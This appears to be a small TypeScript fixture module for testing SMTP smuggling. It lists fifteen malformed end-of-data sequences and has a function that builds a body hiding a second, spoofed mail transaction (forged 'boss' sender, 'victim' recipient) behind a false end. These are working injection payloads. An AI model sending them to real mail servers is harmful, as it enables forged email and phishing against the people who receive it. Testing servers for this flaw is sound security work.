/** What some server, at some time, took for the end of a message; only CRLF.CRLF is one (RFC 5321 §4.1.1.4). */
export const FALSE_ENDS: Record<string, string> = {
  'LF.LF': '\n.\n',
  'LF.CRLF': '\n.\r\n',
  'LF.CR': '\n.\r',
  'CR.CR': '\r.\r',
  'CR.CRLF': '\r.\r\n',
  'CR.LF': '\r.\n',
  'CRLF.LF': '\r\n.\n',
  'CRLF.CR': '\r\n.\r',
  'CRLF.CRCRLF': '\r\n.\r\r\n',
  'CRCRLF.CRCRLF': '\r\r\n.\r\r\n',
  'LFLF.LFLF': '\n\n.\n\n',
  'CRLFNUL.CRLF': '\r\n\0.\r\n',
  'CRLF.NULCRLF': '\r\n.\0\r\n',
  'CRLF..LF': '\r\n..\n',
  'CRLF.space': '\r\n. \r\n',
};

/** A second mail, written as commands, behind the false end. */
export const smuggled = (end: string, victim: string): string =>
  `first half${end}MAIL FROM:<boss@elsewhere.example>\r\nRCPT TO:<${victim}>\r\nDATA\r\n` +
  `From: boss@elsewhere.example\r\nSubject: SMUGGLED\r\n\r\nsecond half\r\n`;
